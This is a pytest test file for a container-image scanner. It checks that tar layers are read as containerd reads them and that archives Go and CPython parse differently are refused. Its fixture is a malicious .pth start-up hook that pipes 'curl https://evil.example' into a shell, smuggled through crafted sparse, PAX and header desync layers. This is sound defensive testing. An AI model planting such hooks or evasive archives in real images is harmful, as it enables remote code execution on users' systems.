"""Issue 11, tar classes: wellcheck reads a layer as containerd does (Go's archive/tar),
or refuses it where CPython's tarfile would read it otherwise.  Every layer is built
byte by byte here (tests/artifact/tarkit.py); each test shows what a user would see:
the content the runtime installs, or an input error (exit 2) naming the rule.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest
from imagebuilder import build_docker_archive
from tarkit import (
    BLOCK,
    GNU,
    header,
    longname,
    member,
    octal,
    old_gnu_sparse,
    pad,
    pax,
    record,
    sparse_01,
    sparse_10,
    tar,
)

from wellcheck.artifact import open_artifact
from wellcheck.artifact.base import EntryKind
from wellcheck.artifact.limits import Limits
from wellcheck.errors import ArtifactError, HostileArtifactError, LimitExceededError

AMBIGUOUS = "ambiguous-tar-header"
PTH = b"usr/local/lib/python3.12/site-packages/zz_evil.pth"
HOOK = b"import os; os.system('curl https://evil.example | sh')\n"
#: a file with holes: what GNU tar --sparse stores as runs
HOLEY = b"\0" * 3000 + HOOK + b"\0" * 70_000 + b"tail" + b"\0" * 100


def _image(tmp_path: Path, layer: bytes) -> Path:
    return build_docker_archive(tmp_path / "image.tar", [layer])


def _files(tmp_path: Path, layer: bytes, limits: Limits | None = None) -> dict[str, bytes]:
    """Every regular file of the image and its content, as wellcheck reads them."""
    with open_artifact(str(_image(tmp_path, layer)), limits or Limits()) as opened:
        tree = opened.trees[0]
        assert not [w for w in opened.info.warnings if "skipped" in w]
        return {
            path: tree.read_bytes(path)
            for path, entry in tree.entries().items()
            if entry.kind is EntryKind.FILE
        }


def _refused(tmp_path: Path, layer: bytes, rule: str | None) -> str:
    """The layer is an input error (exit 2); a hostile one names ``rule``."""
    with pytest.raises(ArtifactError) as caught:
        open_artifact(str(_image(tmp_path, layer)))
    if rule is None:
        assert not isinstance(caught.value, HostileArtifactError), caught.value
    else:
        assert isinstance(caught.value, HostileArtifactError), caught.value
        assert caught.value.rule == rule
    return str(caught.value)


def _cpython(layer: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(layer)) as archive:
        return {m.name: archive.extractfile(m).read() for m in archive if m.isreg()}  # type: ignore[union-attr]


# ----------------------------------------------------------------------------- item 1: sparse


@pytest.mark.parametrize(
    "keys",
    [
        {"GNU.sparse.foo": "1"},
        {"GNU.sparse.numblocks": "0"},
        {"GNU.sparse.major": "2", "GNU.sparse.minor": "0"},
    ],
)
def test_a_gnu_sparse_key_of_no_sparse_format_leaves_a_regular_file(
    tmp_path: Path, keys: dict[str, str]
) -> None:
    """Any ``GNU.sparse.*`` key used to make the member "sparse" and skipped: a start-up
    hook passed unseen.  Go (and CPython) read it as the regular file it is."""
    layer = tar(pax(keys) + member(PTH, HOOK))
    assert _files(tmp_path, layer) == {PTH.decode(): HOOK}


@pytest.mark.parametrize("build", [sparse_01, sparse_10], ids=["pax-0.1", "pax-1.0"])
def test_sparse_members_are_read_with_their_holes_as_zeros(tmp_path: Path, build: object) -> None:
    """GNU tar's PAX sparse formats: containerd writes the holes as zeros; so does wellcheck
    (CPython's tarfile reads the same content)."""
    layer = tar(build(PTH, HOLEY))  # type: ignore[operator]
    assert _cpython(layer) == {PTH.decode(): HOLEY}
    assert _files(tmp_path, layer) == {PTH.decode(): HOLEY}


def test_a_sparse_member_reads_in_pieces_and_its_holes_count_against_the_budget(
    tmp_path: Path,
) -> None:
    layer = tar(sparse_10(PTH, HOLEY), member(b"ok.py", b"x"))
    with open_artifact(str(_image(tmp_path, layer))) as opened:
        with opened.trees[0].open(PTH.decode()) as fh:
            fh.seek(2990)
            assert fh.read(20) == b"\0" * 10 + HOOK[:10]
            fh.seek(-104, io.SEEK_END)
            assert fh.read() == b"tail" + b"\0" * 100
        assert opened.trees[0].entries()[PTH.decode()].size == len(HOLEY)
    huge = tar(sparse_01(b"var/log/lastlog", b"\0" * (1 << 20) + b"x"))
    with pytest.raises(LimitExceededError) as caught:  # a tiny layer, 1 MiB of holes
        _files(tmp_path, huge, Limits(max_total_size=1 << 20, max_member_size=1 << 20))
    assert caught.value.rule in ("max_total_size", "max_member_size")


@pytest.mark.parametrize(
    "runs",
    [[(0, 10), (5, 10)], [(100, 10), (0, 10)], [(0, 10), (len(HOLEY), 1)]],
    ids=["overlapping", "out-of-order", "past-the-size"],
)
def test_a_sparse_map_go_refuses_is_corrupt(tmp_path: Path, runs: list[tuple[int, int]]) -> None:
    _refused(tmp_path, tar(sparse_01(PTH, HOLEY, runs)), None)


def test_a_sparse_map_that_does_not_cover_the_stored_data_is_corrupt(tmp_path: Path) -> None:
    """Go fails the read (errMissData, errUnrefData): the stored data must be the runs."""
    items = {"GNU.sparse.size": "100", "GNU.sparse.numblocks": "1", "GNU.sparse.map": "0,5"}
    _refused(tmp_path, tar(pax(items) + member(PTH, HOOK)), None)  # HOOK: more than 5 bytes


@pytest.mark.parametrize(
    ("keys", "why"),
    [
        (
            {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.map": "0,1"},
            "1.0 by Go, 0.1 by CPython",
        ),
        ({"GNU.sparse.major": "2", "GNU.sparse.map": "0,1"}, "None by Go, 0.1 by CPython"),
        ({"GNU.sparse.size": "100"}, "None by Go, 0.0 by CPython"),
        ({"GNU.sparse.name": "other.py"}, "not sparse"),
        ({"GNU.sparse.realsize": "4096"}, "not sparse"),
    ],
)
def test_sparse_headers_go_and_cpython_read_differently_are_refused(
    tmp_path: Path, keys: dict[str, str], why: str
) -> None:
    assert why in _refused(tmp_path, tar(pax(keys) + member(PTH, HOOK)), AMBIGUOUS)


@pytest.mark.parametrize(
    "layer",
    [
        tar(old_gnu_sparse(PTH, HOLEY)),
        tar(member(PTH, HOOK, kind=b"D")),
        tar(member(PTH, HOOK, kind=b"X")),  # CPython: a Solaris pax header
        tar(pax({"GNU.sparse.offset": "0", "GNU.sparse.numbytes": "1"}) + member(PTH, b"i")),
    ],
    ids=["old-gnu-sparse", "gnu-dumpdir", "solaris-pax", "sparse-0.0"],
)
def test_members_containerd_refuses_are_refused(tmp_path: Path, layer: bytes) -> None:
    """containerd's applyNaive fails on an unhandled typeflag ('S' included), so no
    runtime ever sees these; wellcheck refuses them too, never skips them."""
    _refused(tmp_path, layer, "unsupported-tar-member")


# ----------------------------------------------------------------------------- item 2: names


@pytest.mark.parametrize(
    "records",
    [
        longname(b"a.py") + pax({"path": "b.py"}),
        pax({"path": "b.py"}) + longname(b"a.py"),
        pax({"path": "b.py", "GNU.sparse.name": "c.py"}),
        pax({"path": ""}),
    ],
    ids=["long-name-then-path", "path-then-long-name", "sparse-name", "empty-path"],
)
def test_names_go_and_cpython_take_from_different_records_are_refused(
    tmp_path: Path, records: bytes
) -> None:
    """Go takes the GNU long name over the PAX path whatever their order; CPython takes
    the outermost record.  A layer naming one member twice is refused."""
    _refused(tmp_path, tar(records + member(b"c.py", HOOK)), AMBIGUOUS)


def test_a_long_name_and_a_path_that_agree_are_read(tmp_path: Path) -> None:
    layer = tar(longname(PTH) + pax({"path": PTH}) + member(b"short", HOOK))
    assert _files(tmp_path, layer) == {PTH.decode(): HOOK}


def test_link_targets_go_and_cpython_take_from_different_records_are_refused(
    tmp_path: Path,
) -> None:
    link = member(b"link.pth", kind=b"2", linkname=b"a")
    _refused(tmp_path, tar(longname(b"x", b"K") + pax({"linkpath": "y"}) + link), AMBIGUOUS)


def test_a_regular_file_whose_name_ends_in_a_slash_is_a_file(tmp_path: Path) -> None:
    """Typeflag '0' with ``evil.pth/``: Go keeps it a regular file and containerd writes
    ``evil.pth``; wellcheck used to read a directory and never saw the hook."""
    assert _files(tmp_path, tar(member(PTH + b"/", HOOK))) == {PTH.decode(): HOOK}


def test_an_old_style_directory_takes_no_data(tmp_path: Path) -> None:
    """Typeflag NUL with ``d/``: a directory to both readers, whatever its size field says;
    the next header follows at once (wellcheck used to skip a block of it)."""
    layer = tar(header(b"d/", 512, b"\0"), member(b"d/x.pth", HOOK))
    assert _files(tmp_path, layer) == {"d/x.pth": HOOK}


@pytest.mark.parametrize(
    ("name_field", "path"), [(b"pkg/", "pkg"), (b"pkg", "pkg/")], ids=["header", "pax"]
)
def test_an_old_style_member_only_one_reader_calls_a_directory_is_refused(
    tmp_path: Path, name_field: bytes, path: str
) -> None:
    layer = tar(pax({"path": path}) + header(name_field, len(HOOK), b"\0") + pad(HOOK))
    _refused(tmp_path, layer, AMBIGUOUS)


@pytest.mark.parametrize(
    "records",
    [
        pax({"path": "a.py"}) + pax({"path": "b.py"}),
        longname(b"a.py") + longname(b"b.py"),
        pax({"path": "z.py"}, kind=b"g") + pax({"mtime": "1"}),
        pax({"mtime": "1"}) + pax({"comment": "x"}, kind=b"g"),
        pax(raw=record("comment", "x"), padding=b"9"),
    ],
    ids=["two-pax", "two-long-names", "global-path", "pax-before-global", "padding"],
)
def test_extended_headers_the_readers_combine_differently_are_refused(
    tmp_path: Path, records: bytes
) -> None:
    """Go keeps the last of two pax headers, CPython the first; CPython applies a global
    ``path`` to later members and parses records hidden in a header's padding."""
    _refused(tmp_path, tar(records + member(b"c.py", HOOK)), AMBIGUOUS)


def test_a_global_header_both_readers_ignore_is_accepted(tmp_path: Path) -> None:
    """``git archive`` writes a global ``comment``: harmless to both."""
    layer = tar(pax({"comment": "0" * 40}, kind=b"g"), member(PTH, HOOK))
    assert _files(tmp_path, layer) == {PTH.decode(): HOOK}


@pytest.mark.parametrize(
    "fields",
    [{345: octal(1_700_000_000, 12)}, {345: b"junk"}],
    ids=["gnu-atime", "v7-junk"],
)
def test_a_prefix_field_only_cpython_reads_is_refused(
    tmp_path: Path, fields: dict[int, bytes]
) -> None:
    """A GNU header's atime (or junk in a v7 header) is a name prefix to CPython only."""
    magic = GNU if 345 in fields and fields[345][:1] == b"0" else bytes(8)
    layer = tar(header(b"a.py", len(HOOK), magic=magic, fields=fields) + pad(HOOK))
    _refused(tmp_path, layer, AMBIGUOUS)


def test_names_that_are_not_utf8_beside_names_spelling_the_escape_are_refused(
    tmp_path: Path,
) -> None:
    """``\\xff.pth`` and a file literally named ``\\\\xff.pth`` are two files to the runtime
    and one name to wellcheck (the last would hide the first)."""
    layer = tar(member(b"site/\xff.pth", HOOK), member(b"site/\\xff.pth", b"# ok\n"))
    _refused(tmp_path, layer, "ambiguous-name-encoding")


# ----------------------------------------------------------------------------- item 3: numbers


@pytest.mark.parametrize(
    "size", ["²", "9" * 5000, "+5", "-1", " 5", "5 ", "0x5", "1_0", "٥"], ids=repr
)
def test_a_pax_size_go_would_not_parse_is_corrupt_not_a_crash(tmp_path: Path, size: str) -> None:
    """``size=²`` (a Unicode digit) and a 5,000-digit size crashed with an internal error.
    Go's ParseInt(_, 10, 64): ASCII digits, int64; anything else is a corrupt layer."""
    message = _refused(tmp_path, tar(pax({"size": size}) + member(PTH, HOOK)), None)
    assert "invalid pax size" in message and "\n" not in message


@pytest.mark.parametrize(
    "records",
    [b"\xc2\xb2 a=b\n", b"+9 a=bc\n", b"4 a=\n", b"9 a=bc\n"],
    ids=["unicode-length", "signed-length", "too-short", "past-the-end"],
)
def test_malformed_pax_records_are_corrupt(tmp_path: Path, records: bytes) -> None:
    _refused(tmp_path, tar(pax(raw=records) + member(PTH, HOOK)), None)


@pytest.mark.parametrize(("key", "value"), [("uid", "x"), ("mtime", "1.5e3"), ("gid", "9" * 30)])
def test_pax_numbers_go_refuses_are_corrupt(tmp_path: Path, key: str, value: str) -> None:
    _refused(tmp_path, tar(pax({key: value}) + member(PTH, HOOK)), None)


def test_a_size_field_the_readers_parse_differently_is_corrupt(tmp_path: Path) -> None:
    """Leading NULs: Go trims them and reads a 512-byte member; CPython (and wellcheck
    before) stopped at the first NUL, read size 0, and took that member's data for a
    header whose own data swallowed the start-up hook that Go installs."""
    decoy = header(b"benign.txt", BLOCK + len(pad(HOOK)))
    layer = tar(header(b"a.txt", 0, fields={124: bytes(8) + b"1000"}) + decoy, member(PTH, HOOK))
    assert PTH.decode() not in _cpython(layer)  # the desync: one reader never sees the hook
    _refused(tmp_path, layer, None)


@pytest.mark.parametrize(
    ("field", "accepted"),
    [
        (b"\x80" + bytes(7) + len(HOOK).to_bytes(4, "big"), True),
        (b"\x81" + bytes(11), False),
        (b"\xff" * 12, False),
    ],
    ids=["base-256", "base-256-go-only", "negative"],
)
def test_base_256_sizes(tmp_path: Path, field: bytes, accepted: bool) -> None:
    layer = tar(header(PTH, 0, fields={124: field}) + pad(HOOK))
    if accepted:
        assert _files(tmp_path, layer) == {PTH.decode(): HOOK}
    else:
        _refused(tmp_path, layer, None)


def test_data_after_one_end_of_archive_block_is_corrupt(tmp_path: Path) -> None:
    """Go reads a zero block then a header as ErrHeader (CPython stops at the zero block)."""
    layer = member(b"ok.py", b"x") + bytes(512) + tar(member(PTH, HOOK))
    _refused(tmp_path, layer, None)


# ----------------------------------------------------------------------------- found by item 6


@pytest.mark.parametrize(
    "layer",
    [
        tar(member(b"a.py", b"a"), pax({"comment": "x"}, kind=b"g")),
        tar(pax(raw=record("comment", "1") + record("hdrcharset", b"caf\xe9")) + member(PTH, HOOK)),
    ],
    ids=["global-header-last", "hdrcharset-not-utf8"],
)
def test_layers_found_by_the_differential_fuzzer_are_refused(tmp_path: Path, layer: bytes) -> None:
    """tests/fuzz/tar_differential.py: a global header just before the end (Go ignores it,
    CPython fails on it); a hdrcharset CPython 3.11-3.12 cannot decode (it crashes)."""
    _refused(tmp_path, layer, AMBIGUOUS)
